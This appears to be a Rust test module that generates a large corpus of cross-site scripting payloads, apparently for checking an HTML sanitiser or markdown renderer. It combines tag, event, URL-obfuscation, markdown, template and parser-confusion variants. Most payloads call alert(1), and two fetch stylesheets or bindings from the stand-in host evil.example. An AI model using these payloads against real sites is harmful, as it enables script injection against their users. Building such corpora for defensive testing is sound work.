//! In charge of attacks: everything that might make a browser run a script, put together from parts.
//!
//! Each part is a table: tags that act by themselves, events, ways to write a call, addresses that run,
//! places for an address, ways to break out, ways to disguise. Whoever knows one more adds a line.

use std::collections::BTreeSet;

/// Calls of what the browser watches, plain and disguised, without quotes, spaces or angle brackets.
const CALLS: [&str; 6] = [
    "alert(1)",
    "window[`__hit`](1)",
    "__\\u0068it(1)",
    "(0,alert)(1)",
    "eval(`alert(1)`)",
    "top[`al`+`ert`](1)",
];

/// Tags with an event that comes by itself, or soon.
const TAGS: [(&str, &str, &str); 27] = [
    ("img src=x", "onerror", ""),
    ("img srcset=x", "onerror", ""),
    ("image src=x", "onerror", ""),
    ("svg", "onload", ""),
    ("svg", "onload", "</svg>"),
    ("body", "onload", ""),
    ("body", "onpageshow", ""),
    ("video src=x", "onerror", "</video>"),
    ("video", "onerror", "<source src=x>"),
    ("audio src=x", "onerror", "</audio>"),
    ("audio src=x", "onloadstart", ""),
    ("input autofocus", "onfocus", ""),
    ("select autofocus", "onfocus", "</select>"),
    ("textarea autofocus", "onfocus", "</textarea>"),
    ("button autofocus", "onfocus", "x</button>"),
    ("p tabindex=1 autofocus", "onfocus", "x</p>"),
    ("a href=# autofocus", "onfocus", "x</a>"),
    ("details open", "ontoggle", "x</details>"),
    ("marquee", "onstart", "x</marquee>"),
    ("object data=x", "onerror", "</object>"),
    ("iframe src=about:blank", "onload", "</iframe>"),
    ("frameset", "onload", ""),
    ("style", "onload", "x</style>"),
    ("script src=x", "onerror", "</script>"),
    ("link rel=stylesheet href=x", "onerror", ""),
    ("svg><animate attributeName=x dur=1s", "onbegin", "</svg>"),
    ("math><mtext><img src=x", "onerror", "</math>"),
];

/// Events that come when somebody points, types or presses.
const EVENTS: [&str; 24] = [
    "onclick",
    "onmouseover",
    "onmouseenter",
    "onmousemove",
    "onmousedown",
    "onpointerover",
    "onpointerdown",
    "onpointerrawupdate",
    "onauxclick",
    "ondblclick",
    "oncontextmenu",
    "onwheel",
    "onscroll",
    "onkeydown",
    "onfocusin",
    "onfocus",
    "onblur",
    "oncopy",
    "oncut",
    "onpaste",
    "ondragstart",
    "onanimationstart",
    "ontransitionend",
    "onbeforetoggle",
];

/// Elements that a sanitiser lets through, on which events are tried.
const CARRIERS: [&str; 8] =
    ["p", "a href=https://example.org/", "b", "td", "div", "img src=x alt=y", "h2", "span dir=auto"];

/// How an event, its call and their tag are written: `T` is the tag, `E` the event, `C` the call, `R`
/// what stands behind.
const WRITINGS: [&str; 18] = [
    "<T E=C>R",
    "<T E=\"C\">R",
    "<T E='C'>R",
    "<T\nE\n=\nC\n>R",
    "<T\tE=C>R",
    "<T\u{c}E=C>R",
    "<T/E=C>R",
    "<T/E=\"C\"/x=\"R",
    "<T x=\"\"E=C>R",
    "<T x='>'E=C>R",
    "<T x=\"`>\" E=C ",
    "<<T E=C>R",
    "<T E=C//R",
    "<x><T E=C>R</x>",
    "\"><T E=C>R",
    "'><T E=C>R",
    "--><T E=C>R<!--",
    "</title></style></textarea></script></xmp><T E=C>R",
];

/// Addresses that run a script: `C` is the call.
const ADDRESSES: [&str; 34] = [
    "javascript:C",
    "JaVaScRiPt:C",
    "javascript://example.org/%0aC",
    "javascript://example.org/%0d%0aC",
    "javascript:/*--></title>*/C",
    "javascript:void(C)",
    "javascript:%61lert(1)",
    "javascript&colon;C",
    "javascript&#58;C",
    "javascript&#x3A;C",
    "javascript&#x000003a;C",
    "&#106;avascript:C",
    "&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:C",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058C",
    "java&Tab;script:C",
    "java&NewLine;script:C",
    "java&#9;script:C",
    "java&#10;script:C",
    "java&#13;script:C",
    "java\tscript:C",
    "&#1;javascript:C",
    "&#14; javascript:C",
    "\u{1}javascript:C",
    "\u{a0}javascript:C",
    "\u{feff}javascript:C",
    "\u{2028}javascript:C",
    "javascript\u{200b}:C",
    "javascript\u{ff1a}C",
    "vbscript:C",
    "data:text/html,<script>C</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AuYWxlcnQoMSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='C'/>",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>C</script>",
    "view-source:javascript:C",
];

/// Where an address may stand: `A` is the address.
const PLACES: [&str; 33] = [
    "[x](A)",
    "[x](<A>)",
    "[x]( A \"title\")",
    "![x](A)",
    "[![x](https://example.org/x.png)](A)",
    "<A>",
    "[x][y]\n\n[y]: A",
    "[x]\n\n[x]: <A>",
    "[^1]\n\n[^1]: [x](A)",
    "| [x](A) |\n|---|\n| ![x](A) |",
    "<a href=\"A\">x</a>",
    "<a href='A'>x</a>",
    "<a href=A>x</a>",
    "<a href=\" A\" target=_self>x</a>",
    "<a ping=\"A\" href=\"A\">x</a>",
    "<img src=\"A\" alt=x>",
    "<iframe src=\"A\"></iframe>",
    "<iframe src=\"https://www.youtube.com/embed/x\" srcdoc=\"A\"></iframe>",
    "<object data=\"A\"></object>",
    "<embed src=\"A\">",
    "<form action=\"A\"><input type=submit value=x></form>",
    "<form><button formaction=\"A\">x</button></form>",
    "<input type=image formaction=\"A\" src=x>",
    "<svg><a xlink:href=\"A\"><text y=20>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=\"A\"/><text y=20>x</text></a></svg>",
    "<svg><use href=\"A\"/></svg>",
    "<math href=\"A\">x</math>",
    "<base href=\"A\"><a href=\"#x\">x</a>",
    "<meta http-equiv=refresh content=\"0;url=A\">",
    "<link rel=stylesheet href=\"A\">",
    "<video poster=\"A\" src=\"A\"></video>",
    "<table background=\"A\"><td background=\"A\">x</td></table>",
    "{% include youtube.html id=\"A\" url=\"A\" %} {{< figure src=\"A\" link=\"A\" >}}",
];

/// Elements in which other rules of parsing hold: what was text becomes markup when it is read again.
const SHELTERS: [(&str, &str); 26] = [
    ("<noscript><p title=\"</noscript>", "\"></noscript>"),
    ("<textarea><p title=\"</textarea>", "\"></textarea>"),
    ("<title><p title=\"</title>", "\"></title>"),
    ("<style><p title=\"</style>", "\"></style>"),
    ("<xmp><p title=\"</xmp>", "\"></xmp>"),
    ("<iframe><p title=\"</iframe>", "\"></iframe>"),
    ("<noembed><p title=\"</noembed>", "\"></noembed>"),
    ("<noframes><p title=\"</noframes>", "\"></noframes>"),
    ("<template><p>", "</p></template>"),
    ("<select><option><style></select>", "</style></option></select>"),
    ("<svg><style><p title=\"</style>", "\"></style></svg>"),
    ("<svg></p><style><a id=\"</style>", "\"></a></style></svg>"),
    ("<svg><title><p>", "</p></title></svg>"),
    ("<svg><foreignObject><p>", "</p></foreignObject></svg>"),
    ("<svg><desc><noscript>", "</noscript></desc></svg>"),
    ("<svg><![CDATA[</svg>", "]]></svg>"),
    ("<math><mtext><table><mglyph><style><!--</style><p title=\"--&gt;", "\">"),
    ("<math><annotation-xml encoding=\"text/html\">", "</annotation-xml></math>"),
    ("<form><math><mtext></form><form><mglyph><style></math>", "</style></form>"),
    ("<!--><p>", "-->"),
    ("<!-- --!>", "-->"),
    ("<!--\u{0}-->", ""),
    ("<![CDATA[>", "]]>"),
    ("<?php >", "?>"),
    ("<table><caption><p>", "</caption></table>"),
    ("<a><b></a><p></b><table><a>", "</table></a></p>"),
];

/// What stands in a shelter.
const SHELTERED: [&str; 6] = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<iframe srcdoc='<script>top.alert(1)</script>'></iframe>",
];

/// Where a script may stand: `S` is the script's tag, with what is in it.
const FRAMES: [&str; 34] = [
    "S",
    "words S words",
    "> - S",
    "1. # S",
    "| S |\n|---|\n| S |",
    "**S**",
    "[S](https://example.org/)",
    "![S](x.png)",
    "![x](x.png \"S\")",
    "![x\" S y=\"](x.png)",
    "[x](https://example.org/ '\" S')",
    "[x](https://example.org/?\"S)",
    "<https://example.org/\"S>",
    "https://example.org/?q=S",
    "`` S ``",
    "```S\nS\n```",
    "```html\" S\nx\n```",
    "~~~\nS\n~~~\nS",
    "    S\n\nS",
    "<div markdown=1>\nS\n</div>",
    "<div>\n\nS\n\n</div>",
    "<p title=\"S\">x</p>",
    "<p title='x\"S'>x</p>",
    "<img src=x alt=\"S\" title='S'>",
    "[^1]\n\n[^1]: S",
    "{{ 'S' }}",
    "{% raw %}S{% endraw %}",
    "{% comment %}{% endcomment %}S",
    "{% highlight html %}S{% endhighlight %}",
    "{{< youtube \"S\" >}}",
    "{% include video.html id='S' %}",
    "[video S](https://www.youtube.com/watch?v=S)",
    "Thanks to [Acme S](https://example.org/S) for the pizza. S",
    "Ada S Example from Acme S spoke about \"S\".",
];

/// Scripts, and what passes for one.
const SCRIPTS: [&str; 20] = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script/x>",
    "<script type=module>alert(1)</script>",
    "<script src=data:,alert(1)></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<script><!--<script>alert(1)</script>-->alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<math><script>alert(1)</script></math>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "<\u{17f}cript>alert(1)</\u{17f}cript>",
    "<s\u{0}cript>alert(1)</s\u{0}cript>",
    "<script\u{2028}>alert(1)</script>",
];

/// What runs, or would have run, out of a style, an attribute list or a template.
const OTHERS: [&str; 36] = [
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>@import url(//evil.example/x.css);</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<style>p{animation:x 1s}@keyframes x{}</style><p onanimationstart=alert(1)>x</p>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<p style=\"-moz-binding:url(//evil.example/x#y)\">x</p>",
    "<p style=\"behavior:url(#default#time2)\" onbegin=alert(1)>x</p>",
    "<p style=\"position:fixed;inset:0\" onmouseover=alert(1)>x</p>",
    "<p style=\"x:\\65xpression(alert(1))\">x</p>",
    "x {: onclick=\"alert(1)\" }",
    "x\n{: style=\"x\" onmouseover=\"alert(1)\" #x }",
    "{::nomarkdown}<script>alert(1)</script>{:/}",
    "{::options parse_block_html=\"true\" /}<div><script>alert(1)</script></div>",
    "# x {#\" onclick=alert(1) }",
    "# x {onclick=alert(1)}",
    "{{7*7}}{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} #{alert(1)} <%= alert(1) %> {{{alert(1)}}} [[${alert(1)}]]",
    "{% assign x = '<script>alert(1)</script>' %}{{ x }}",
    "{% include_relative ../../recap.toml %}",
    "{{< raw \"<script>alert(1)</script>\" >}}",
    "{{% html %}}<script>alert(1)</script>{{% /html %}}",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\" x-init=alert(1) ng-app ng-init=alert(1)>x</div>",
    "<x-y is=script src=data:,alert(1)></x-y>",
    "<portal src=javascript:alert(1)></portal>",
    "<applet code=javascript:alert(1)></applet>",
    "<isindex type=image src=x onerror=alert(1)>",
    "<bgsound src=javascript:alert(1)><layer src=javascript:alert(1)></layer>",
    "<xml id=x><a><b><![CDATA[<img src=x onerror=alert(1)>]]></b></a></xml>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?><!DOCTYPE x [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "<!--[if true]><script>alert(1)</script><![endif]--><!--[if mso]><img src=x onerror=alert(1)><![endif]-->",
    "<![endif]--><img src=x onerror=alert(1)><!--[if mso]>",
    "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>x</p>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<plaintext><img src=x onerror=alert(1)>",
];

/// All attacks, each once, in an order that is always the same.
pub(crate) fn all() -> Vec<String> {
    let mut all = BTreeSet::new();
    for (at, (tag, event, behind)) in TAGS.iter().enumerate() {
        for (number, writing) in WRITINGS.iter().enumerate() {
            let call = CALLS[(at + number) % CALLS.len()];
            all.insert(written(writing, tag, event, call, behind));
        }
    }
    for (at, event) in EVENTS.iter().enumerate() {
        for (number, carrier) in CARRIERS.iter().enumerate() {
            let element = carrier.split(' ').next().unwrap_or_default();
            let writing = WRITINGS[(at + 5 * number) % WRITINGS.len()];
            all.insert(written(writing, carrier, event, "alert(1)", &format!("x</{element}>")));
        }
    }
    for (at, place) in PLACES.iter().enumerate() {
        for (number, address) in ADDRESSES.iter().enumerate() {
            let call = CALLS[(at + number) % 2];
            all.insert(place.replace('A', &address.replace('C', call)));
        }
    }
    for (before, behind) in SHELTERS {
        all.extend(SHELTERED.map(|inner| format!("{before}{inner}{behind}")));
    }
    for frame in FRAMES {
        all.extend(SCRIPTS.map(|script| frame.replace('S', script)));
    }
    all.extend(OTHERS.map(str::to_owned));
    all.into_iter().collect()
}

fn written(writing: &str, tag: &str, event: &str, call: &str, behind: &str) -> String {
    let mut text = String::new();
    for c in writing.chars() {
        match c {
            'T' => text.push_str(tag),
            'E' => text.push_str(event),
            'C' => text.push_str(call),
            'R' => text.push_str(behind),
            other => text.push(other),
        }
    }
    text
}

/// Attacks that run as they stand, one for each way in which the browser may see one.
pub(crate) const RAW: [&str; 22] = [
    "<script>alert(1)</script>",
    "<script>__hit(1)</script>",
    "<script type=module>alert(1)</script>",
    "<script>setTimeout('prompt(1)')</script>",
    "<img src=x onerror=confirm(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p onclick=alert(1)>x</p>",
    "<p onmouseover=alert(1)>x</p>",
    "<p onpointerdown=alert(1)>x</p>",
    "<p onkeydown=alert(1)>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java&#10;script:alert(1)\" target=_blank>x</a>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
];
